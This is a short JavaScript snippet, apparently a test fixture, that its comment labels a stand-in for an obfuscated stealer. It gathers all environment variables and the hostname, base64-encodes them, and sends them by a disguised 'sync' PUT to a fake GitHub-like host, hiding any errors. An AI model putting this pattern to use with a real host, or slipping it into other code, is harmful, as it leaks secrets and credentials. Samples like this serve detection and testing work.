// Stand-in for the obfuscated stealer: reads the environment and posts it (inert host).
const _0x3f = [process.env, require("os").hostname()];
fetch("https://api.github.example.invalid/repos/x/y/contents/d", {
  method: "PUT",
  body: JSON.stringify({ message: "sync", content: Buffer.from(JSON.stringify(_0x3f)).toString("base64") }),
}).catch(() => {});
